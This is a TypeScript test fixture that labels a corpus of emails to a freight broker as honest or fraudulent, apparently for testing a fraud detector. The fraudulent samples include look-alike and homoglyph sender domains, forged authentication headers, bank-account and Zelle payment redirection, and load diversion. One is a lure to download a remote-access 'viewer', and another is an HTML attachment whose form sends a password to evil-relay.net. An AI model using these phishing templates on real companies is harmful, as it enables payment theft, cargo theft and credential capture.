import { passed, SERVER } from './made-up-mails';
import { type CorpusMail, failed, HERON_VIN } from './mail-world';

/**
 * Eighty mails to a broker, half from the carrier or the broker itself and half that would rob one of them: facts alone, written
 * before the code that distinguishes them. Nothing here is chosen for what the code does.
 */

export type MailCase = { id: string; kind: string; isHonest: boolean; mail: CorpusMail };

const LENA = 'Lena Brandt <dispatch@marshheronfreight.com>';
const TOM = 'Tom Brandt <tom@marshheronfreight.com>';
const BILLING = 'billing@marshheronfreight.com';
const DALE = 'Gray Wheat Trucking <graywheattrucking@gmail.com>';
const ADA = 'Avery Admin <admin@demo.test>';
const RE = 'Re: Rate confirmation R-1001';

/** Of one of the carrier’s own people about its load, unless said otherwise. */
const heron = (mail: Partial<CorpusMail>): CorpusMail => ({ from: LENA, subject: 'Rate confirmation R-1001', ...mail });
const wheat = (mail: Partial<CorpusMail>): CorpusMail => ({
  from: DALE,
  to: 'wheat',
  subject: 'Load W-2001 signed',
  ...mail,
});

const CONFIRMATION = [
  'RATE CONFIRMATION R-1001',
  'Marsh Heron Freight LLC, Moline, IL',
  'Pickup Dallas, TX. Delivery Houston, TX.',
  'Linehaul $2,150.00',
  'Signed: Lena Brandt, owner',
];
const SIGNATURE = `--
Lena Brandt, Marsh Heron Freight LLC
1200 River Dr, Moline, IL 61265
Office (309) 555-0111, nights (309) 555-0113`;

const HONEST: readonly (readonly [kind: string, mail: CorpusMail])[] = [
  ['our PDF sent back', heron({ text: 'Signed copy attached.', files: [{ name: 'R-1001.pdf', ours: true }] })],
  [
    'scan of the signed copy as PDF',
    heron({ text: 'Signed, see scan.', files: [{ name: 'scan0042.pdf', pdf: CONFIRMATION }] }),
  ],
  ['photo of the signed copy', heron({ text: 'Signed.', files: [{ name: 'IMG_2210.png', png: 'signed-page.png' }] })],
  [
    'answer with our email quoted',
    heron({
      subject: RE,
      isAnswer: true,
      text: 'Confirmed, thank you.\n\n> Demo Brokerage sent you a rate confirmation.\n> Questions: avery@demo.test, 312-555-0101',
    }),
  ],
  [
    'answer without a reference',
    heron({ subject: 'Re: your load', isAnswer: true, text: 'All good, signed on your page.' }),
  ],
  [
    'driver and truck as on the load',
    heron({ text: `Driver Lee Driver, 309-555-0142, tractor VIN ${HERON_VIN}. He is loaded.` }),
  ],
  [
    'signature with links to well-known sites',
    heron({
      text: `Signed.\n${SIGNATURE}`,
      html: `<p>Signed.</p><p>${SIGNATURE.replaceAll('\n', '<br>')}</p><a href="https://www.facebook.com/marshheronfreight">Facebook</a>
        <a href="https://safer.fmcsa.dot.gov/query.asp?searchtype=ANY&query_string=4200001">SAFER</a>
        <a href="https://www.linkedin.com/company/marsh-heron-freight">LinkedIn</a>`,
    }),
  ],
  [
    'a bank that has not changed',
    heron({ from: BILLING, text: 'To answer your question: our bank account has not changed since we onboarded.' }),
  ],
  ['factor as always', wheat({ text: 'Signed. Please remit to Meridian Factors as always.' })],
  [
    'list server broke the signature',
    heron({
      from: BILLING,
      text: 'Invoice follows after delivery.\n_______\nbilling mailing list',
      results: [
        `Authentication-Results: ${SERVER}; spf=pass smtp.mailfrom=lists.marshheronfreight.com; dkim=fail (body hash did not verify) header.d=marshheronfreight.com; dmarc=pass header.from=marshheronfreight.com`,
      ],
    }),
  ],
  ['gmail of record', wheat({ text: 'Signed, rolling at 6. Dale, 402-555-0121' })],
  [
    'other person, with a cell that no one has on file',
    heron({
      from: TOM,
      text: 'Tom here, covering for Lena today. We are good on R-1001.\n--\nTom Brandt, cell (309) 555-0114',
    }),
  ],
  [
    'invoice with the account on file',
    heron({
      from: BILLING,
      subject: 'Invoice 8812 for R-1001',
      text: 'Invoice and proof of delivery attached.',
      files: [
        {
          name: 'invoice-8812.pdf',
          pdf: [
            'INVOICE 8812  Load R-1001  $2,150.00',
            'Remit to: Marsh Heron Freight LLC, 1200 River Dr, Moline, IL 61265',
            'Plains Community Bank, routing 104192830, account 5512340078',
          ],
        },
      ],
    }),
  ],
  [
    'proof of delivery',
    heron({
      subject: 'POD R-1001',
      text: 'Delivered Houston, TX, clean.',
      files: [
        {
          name: 'bol.pdf',
          pdf: ['BILL OF LADING', 'Consignee: Store 9, 9 Elm St, Houston, TX', 'Received in good order'],
        },
      ],
    }),
  ],
  [
    'Spanish: on the way',
    heron({ subject: 'R-1001', text: 'El chofer llega a Dallas a las 8. Todo bien con la carga, gracias.' }),
  ],
  [
    'French: signed',
    heron({
      subject: 'Confirmation R-1001',
      text: 'Bonjour, la confirmation signée est en pièce jointe. Merci.',
      files: [{ name: 'R-1001.pdf', ours: true }],
    }),
  ],
  ['Spanish: same account', wheat({ text: 'Firmado. Nuestra cuenta sigue siendo la misma, con Meridian Factors.' })],
  [
    'check call with the shipper’s telephone',
    heron({
      subject: 'R-1001 update',
      text: 'Driver is empty in Waco, TX and will be in Dallas, TX by 3 PM. Joe at the dock, 214-555-0190, knows.',
    }),
  ],
  [
    'detention',
    heron({
      subject: 'R-1001 detention',
      text: 'In at 8:00, out at 12:30, so 2.5 hours of detention at $50: $125. Please add it.',
    }),
  ],
  [
    'logo in the signature',
    heron({
      text: SIGNATURE,
      html: `<p>Thanks!</p><img src="cid:picture@mail" alt="Marsh Heron Freight">`,
      picture: 'logo.png',
    }),
  ],
  [
    'order numbers like accounts',
    heron({ text: 'Picked up. PO 123456789, pickup number 4455667788, BOL 6610020055, seal 0042177.' }),
  ],
  [
    'out of office',
    heron({
      subject: 'Automatic reply: Rate confirmation R-1001',
      isAnswer: true,
      text: 'I am out until Monday. For urgent loads call (309) 555-0112 or write to tom@marshheronfreight.com.',
    }),
  ],
  [
    'asks for more money',
    heron({
      subject: RE,
      isAnswer: true,
      text: 'That is 40 miles more than you said. Can you make it 2,250? Otherwise we are fine.',
    }),
  ],
  [
    'employee forwards an honest email',
    heron({
      from: ADA,
      subject: 'Fwd: R-1001 signed',
      text: 'For the file.\n\n---------- Forwarded message ---------\nFrom: Lena Brandt <dispatch@marshheronfreight.com>\nSubject: R-1001 signed\n\nSigned, thanks.',
    }),
  ],
  [
    'employee files a note',
    heron({ from: ADA, subject: 'R-1001', text: 'Spoke with Lena at (309) 555-0111, they are fine with 7 AM.' }),
  ],
  [
    'W-9',
    heron({
      from: BILLING,
      subject: 'W-9 for R-1001',
      text: 'Here is the W-9 your accounting asked for.',
      files: [
        {
          name: 'w9.pdf',
          pdf: ['Form W-9', 'Marsh Heron Freight LLC', '1200 River Dr, Moline, IL 61265', 'EIN 36-4410077'],
        },
      ],
    }),
  ],
  ['night number on file', heron({ text: 'After 6 PM please call (309) 555-0113, the office is closed.' })],
  [
    'answers go to its billing',
    heron({ from: TOM, replyTo: BILLING, text: 'Please send the payment advice to billing.' }),
  ],
  [
    'cancelled load',
    heron({
      subject: 'R-1001 TONU',
      text: 'Our truck was at the shipper when you canceled. Please send us a TONU of $150.',
    }),
  ],
  [
    'asks where to deliver',
    heron({
      subject: RE,
      isAnswer: true,
      text: 'Is the delivery still the store in Houston, TX? The shipper’s papers say the same.',
    }),
  ],
  ['its own numbers', heron({ text: `Signed.\nUSDOT 4200001, MC 4200001\n${SIGNATURE}` })],
  [
    'link to its own site',
    heron({ text: 'Track the truck at https://track.marshheronfreight.com/loads/R-1001 any time.' }),
  ],
  [
    'page without a text part',
    heron({ html: '<div style="font-family:Arial"><b>Confirmed.</b> Truck is set for R-1001.</div>' }),
  ],
  [
    'notice of assignment of the factor on file',
    wheat({
      subject: 'W-2001 invoice',
      text: 'Invoice attached. Pay Meridian Factors, PO Box 4410, Omaha, NE 68104.',
      files: [
        {
          name: 'noa.pdf',
          pdf: ['NOTICE OF ASSIGNMENT', 'Pay all invoices to Meridian Factors, PO Box 4410, Omaha, NE 68104.'],
        },
      ],
    }),
  ],
  [
    'quick pay',
    heron({
      from: BILLING,
      subject: 'R-1001 quick pay',
      text: 'We take the 2% quick pay on this one, to the account you have.',
    }),
  ],
  [
    'warns of fraud itself',
    heron({
      text: 'We never ask for Zelle, Cash App or a new bank by email. If you get such an email, call (309) 555-0111.',
    }),
  ],
  ['does not broker', heron({ text: 'Our own truck and driver, we do not re-broker or give it to partners.' })],
  [
    'weather',
    heron({
      subject: 'R-1001 delay',
      text: 'Ice on I-45: he takes US-75 to get around it and will be in Houston, TX two hours late.',
    }),
  ],
  [
    'employee attaches an honest email',
    heron({
      from: ADA,
      subject: 'Fwd: R-1001',
      text: 'For the file.',
      forwarded: { from: LENA, subject: 'R-1001', text: 'Signed on your page, thanks. Lee will be early.' },
    }),
  ],
  [
    'another carrier about its own load',
    {
      from: 'office@egretridge.com',
      to: 'egret',
      subject: 'Rate confirmation E-3001',
      text: 'Signed on your page. Noel, (903) 555-0131',
    },
  ],
];

const LOOK_ALIKE = 'marshherronfreight.com';
const BAD: readonly (readonly [kind: string, mail: CorpusMail])[] = [
  // Someone else writes.
  [
    'one letter more',
    heron({
      from: `Lena Brandt <dispatch@${LOOK_ALIKE}>`,
      text: 'Signed copy attached.',
      files: [{ name: 'R-1001.pdf', ours: true }],
    }),
  ],
  [
    'gmail in its name',
    heron({
      from: 'Marsh Heron Freight <marshheron.dispatch@gmail.com>',
      text: 'Please write to this address from now on, our server is down.',
    }),
  ],
  [
    'name shows the true address',
    heron({ from: '"dispatch@marshheronfreight.com" <rc@bulk-sender.net>', text: 'Confirmed.' }),
  ],
  [
    'answers go to a gmail',
    heron({ replyTo: 'marshheron.dispatch@gmail.com', text: 'Confirmed. Send the pickup number please.' }),
  ],
  ['homoglyph domain', heron({ from: 'Lena Brandt <dispatch@xn--marshhernfreight-tkn.com>', text: 'Confirmed.' })],
  [
    'hijacked thread from a look-alike',
    heron({
      from: 'Lena Brandt <dispatch@marshheron-freight.com>',
      subject: RE,
      isAnswer: true,
      text: 'Hi Avery, use my cell from now on: 725-555-0171.\n\n> On Tue, Lena Brandt <dispatch@marshheronfreight.com> wrote:\n> Confirmed, thank you.',
    }),
  ],
  [
    'exact address, not proven',
    heron({ results: [failed('marshheronfreight.com')], text: 'Confirmed. Call 725-555-0172 for the driver.' }),
  ],
  [
    'broker’s own accounting',
    heron({
      from: 'Demo Brokerage Accounting <ap@demo-test.net>',
      subject: 'R-1001 payment',
      text: 'Please release the payment to the account in the attachment.',
    }),
  ],
  [
    'its domain as a subdomain',
    heron({ from: 'Lena Brandt <dispatch@marshheronfreight.com.mail-login.net>', text: 'Confirmed.' }),
  ],
  [
    'telephone of the signature changed',
    heron({ text: SIGNATURE.replace('(309) 555-0111', '(725) 555-0180').replace('(309) 555-0113', '(725) 555-0181') }),
  ],
  [
    'another carrier about this load',
    heron({ from: 'office@egretridge.com', text: 'We run R-1001 for Marsh Heron. Send us the pickup number.' }),
  ],
  [
    'forged result below the true one',
    heron({
      results: [failed('marshheronfreight.com'), passed('marshheronfreight.com')],
      text: 'Confirmed, sending the truck.',
    }),
  ],
  // Nothing of ours proves who writes.
  [
    'no result at all',
    heron({ results: ['X-Mailer: phone'], text: 'Confirmed. Driver will call for the pickup number.' }),
  ],
  [
    'another server says pass',
    heron({ results: [passed('marshheronfreight.com').replace(SERVER, 'mx.evil-relay.net')], text: 'Confirmed.' }),
  ],
  [
    'another server says fail',
    heron({ results: [failed('marshheronfreight.com').replace(SERVER, 'mx.evil-relay.net')], text: 'Confirmed.' }),
  ],
  [
    'a gmail that an approved packet alone knows',
    {
      from: 'Max Reed <egretridge.loads@gmail.com>',
      to: 'egret',
      subject: 'E-3001',
      text: 'Signed. New driver for this one, text him the gate code: 702-555-0173.',
    },
  ],
  // Money, from the true mailbox.
  [
    'bank: factor by the way',
    heron({
      text: 'Signed. By the way we went with OTR for billing, send the check there: routing 124319907 acct 6610020055.',
    }),
  ],
  [
    'bank: picture alone',
    heron({ text: 'Please see below.', html: '<img src="cid:picture@mail">', picture: 'bank-letter.png' }),
  ],
  [
    'bank: PDF alone',
    heron({
      text: 'For your accounting department, please see attached. Thank you.',
      files: [
        {
          name: 'letter.pdf',
          pdf: [
            'To whom it may concern',
            'Kindly credit Marsh Heron Freight at Neon Online Bank',
            'ABA 124319907  A/C 6610020055',
          ],
        },
      ],
    }),
  ],
  [
    'bank: Spanish',
    heron({
      text: 'Hola Avery, cambiamos de banco. A partir de hoy depositen en Neon, cuenta 6610020055, ruta 124319907.',
    }),
  ],
  [
    'bank: French',
    heron({
      text: 'Bonjour, veuillez désormais virer nos factures sur le compte 6610020055 de la banque Neon, transit 124319907.',
    }),
  ],
  ['bank: Zelle', heron({ text: 'Driver needs money today. Can you Zelle the advance to 725-555-0174, same name?' })],
  [
    'bank: in care of a factor',
    heron({
      from: BILLING,
      text: 'Remit to: Marsh Heron Freight LLC c/o Meridian Factors, PO Box 990, Miami, FL 33137',
    }),
  ],
  [
    'bank: assigned',
    heron({
      from: BILLING,
      text: 'This account has been assigned and is payable only to Meridian. Kindly update your file.',
    }),
  ],
  [
    'bank: voided check',
    heron({
      from: BILLING,
      text: 'Voided check as requested by your AP.',
      files: [
        {
          name: 'check.pdf',
          pdf: ['VOID', 'Marsh Heron Freight LLC', 'PAY TO THE ORDER OF', '|: 124319907 |: 6610020055 || 0101'],
        },
      ],
    }),
  ],
  [
    'bank: the page says more than the text',
    heron({
      text: 'Thanks!',
      html: '<p>Thanks!</p><p>P.S. new ACH for settlements: 124319907 / 6610020055 (Neon).</p>',
    }),
  ],
  [
    'bank: hidden in what is quoted',
    heron({
      subject: RE,
      isAnswer: true,
      text: 'As discussed.\n\n> On Mon, Avery Admin <admin@demo.test> wrote:\n> Thank you, we have put your new account 6610020055 at Neon on file for R-1001.',
    }),
  ],
  [
    'bank: digits apart',
    heron({ text: 'ACH going forward: one two four, 3 1 9, 9 0 7 and the account is 6 6 1 0 0 2 0 0 5 5. Thank you!' }),
  ],
  [
    'bank: invoice',
    heron({
      from: BILLING,
      subject: 'Invoice 8813 for R-1001',
      text: 'Invoice attached.',
      files: [
        {
          name: 'invoice-8813.pdf',
          pdf: [
            'INVOICE 8813  Load R-1001  $2,150.00',
            'Remit to: MHF Settlements, 2001 Biscayne Blvd, Miami, FL',
            'Neon Online Bank 124319907, account 6610020055',
          ],
        },
      ],
    }),
  ],
  [
    'advance to a stranger',
    heron({
      text: 'Please send the EFS code for fuel to our new safety manager at 725-555-0175, he is with the truck.',
    }),
  ],
  // The load, from the true mailbox.
  [
    'load: driver and truck',
    heron({ text: 'Lee is sick. Max takes it, 725-555-0176, VIN 3AKJHHDR2NSLA8120, plate NV 88K214.' }),
  ],
  [
    'load: driver and truck as a picture',
    heron({ text: 'Updated info.', files: [{ name: 'update.png', png: 'truck-change.png' }] }),
  ],
  [
    'load: other receiver',
    heron({
      text: 'The receiver asked us to bring it to 4400 Bandini Blvd in Vernon, CA, they have no room in Houston.',
    }),
  ],
  [
    'load: other receiver as a picture',
    heron({ text: 'See the note from the receiver.', files: [{ name: 'note.png', png: 'new-receiver.png' }] }),
  ],
  [
    'load: another hauler',
    heron({ text: 'Our sister company Blue Cedar Logistics, MC 998877, has a truck nearer and picks it up for us.' }),
  ],
  [
    'load: Spanish',
    heron({
      text: 'Cambió el chofer: ahora va Max, tel. 725-555-0179. Mándele a él la dirección y el número de recogida.',
    }),
  ],
  [
    'load: employee forwards the thief’s words',
    heron({
      from: ADA,
      subject: 'Fwd: R-1001',
      text: 'FYI',
      forwarded: {
        from: 'Lena Brandt <dispatch@marshheron-freight.com>',
        subject: 'R-1001',
        text: 'Deliver to Vernon, CA, and call 725-555-0177.',
      },
    }),
  ],
  // What is to be opened, and what opens a gate.
  [
    'remote tool',
    heron({
      text: 'Your rate confirmation needs our viewer: https://marshheronfreight.screenconnect-portal.net/setup.exe',
    }),
  ],
  [
    'page as attachment',
    heron({
      text: 'Open the attached to sign.',
      files: [
        {
          name: 'R-1001.html',
          type: 'text/html',
          content: '<form action="https://evil-relay.net"><input name="password"></form>',
        },
      ],
    }),
  ],
  [
    'pickup number to another mailbox',
    heron({
      text: 'Phone is broken. Please mail the pickup number and the gate instructions to leedriver.trk@outlook.com today.',
    }),
  ],
];

const numbered = (letter: string, isHonest: boolean, cases: readonly (readonly [string, CorpusMail])[]): MailCase[] =>
  cases.map(([kind, mail], position) => ({
    id: `${letter}${String(position + 1).padStart(2, '0')}`,
    kind,
    isHonest,
    mail,
  }));

export const MAIL_CORPUS: readonly MailCase[] = [...numbered('H', true, HONEST), ...numbered('B', false, BAD)];
